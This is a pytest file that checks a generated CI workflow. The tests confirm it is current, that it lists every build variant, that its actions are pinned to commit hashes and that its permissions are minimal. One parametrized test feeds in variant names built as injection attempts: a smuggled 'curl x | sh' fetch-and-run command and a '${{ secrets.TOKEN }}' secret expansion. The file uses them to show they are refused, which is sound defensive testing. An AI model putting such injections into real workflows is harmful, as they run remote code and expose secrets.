"""The generated CI workflow: up to date, complete, and with nothing in it that can move."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from millcert.errors import ConfigError
from millcert.targets import load_targets
from millcert.wheel.workflow import PATH, render_workflow

ROOT = Path(__file__).parents[3]
TARGETS = ROOT / "ci" / "targets.toml"


def test_the_workflow_is_what_targets_toml_gives() -> None:
    assert (ROOT / PATH).read_text() == render_workflow(load_targets(TARGETS)), "run `millcert ci`"


def test_every_variant_has_a_runner_and_every_wheel_is_expected() -> None:
    targets, text = load_targets(TARGETS), (ROOT / PATH).read_text()
    listed = re.search(r"variant: \[(.*)\]", text)
    assert listed is not None
    assert listed[1].split(", ") == list(targets.variants)
    expected = sum(len(variant.architectures) for variant in targets.variants.values())
    assert f"-eq {expected}\n" in text


def test_actions_are_pinned_by_commit_and_rights_are_few() -> None:
    for path in (ROOT / ".github/workflows").glob("*.yml"):
        text = path.read_text()
        for used in re.findall(r"uses:\s*(\S+)", text):
            assert re.fullmatch(r"[\w.-]+/[\w./-]+@[0-9a-f]{40}", used), f"{path.name}: {used}"
        assert re.search(r"^permissions:\n  contents: read$|^permissions: \{\}$", text, re.MULTILINE), path.name


@pytest.mark.parametrize("name", ['cpu"; curl x | sh; "', "${{ secrets.TOKEN }}", "a b", "-x"])
def test_a_variant_whose_name_is_a_command_is_refused(tmp_path: Path, name: str) -> None:
    text = TARGETS.read_text().replace("[variants.cpu]", f"[variants.'{name}']")
    text = re.sub(r"\n\[images.*?(?=\n\[limits|\Z)", "\n", text, flags=re.DOTALL)
    (tmp_path / "targets.toml").write_text(text)
    with pytest.raises(ConfigError):
        render_workflow(load_targets(tmp_path / "targets.toml"))
